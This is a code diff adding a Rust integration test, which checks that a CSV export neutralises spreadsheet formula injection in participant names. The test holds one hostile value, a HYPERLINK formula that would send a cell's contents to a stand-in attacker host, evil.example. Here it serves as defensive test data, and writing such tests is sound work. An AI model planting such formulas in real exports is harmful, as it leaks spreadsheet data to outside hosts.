@@ -753,3 +753,43 @@ async fn a_french_export_speaks_french_with_the_same_figures() {
     assert_eq!(header[0], "code_cycle");
     assert_eq!(records, english_records);
 }
+
+#[tokio::test]
+async fn a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text_in_the_csv() {
+    let app = TestApp::spawn().await;
+    let cycle = gci_cycle(&app).await;
+    let hostile = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
+    let mut owner = app.db.owner().await;
+    let renamed =
+        sqlx::query("UPDATE participants SET name_en = $1, name_fr = $1 WHERE code = 'EST'")
+            .bind(hostile)
+            .execute(&mut owner)
+            .await
+            .unwrap();
+    assert_eq!(renamed.rows_affected(), 1);
+    let analyst = app.user("analyst", None).await;
+    let csv_bytes = body_bytes(
+        app.request(analyst.api(
+            "POST",
+            &format!("/api/v1/cycles/{cycle}/export?format=csv"),
+            None,
+        ))
+        .await,
+    )
+    .await;
+    let (_, records) = csv_parts(&csv_bytes);
+    let quoted = format!("'{hostile}");
+    assert!(
+        records.iter().any(|fields| fields.contains(&quoted)),
+        "the name is written, behind an apostrophe"
+    );
+    for fields in &records {
+        for cell in fields {
+            let evaluated = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            assert!(
+                !evaluated || cell.parse::<f64>().is_ok(),
+                "a cell a spreadsheet would evaluate: {cell:?}"
+            );
+        }
+    }
+}
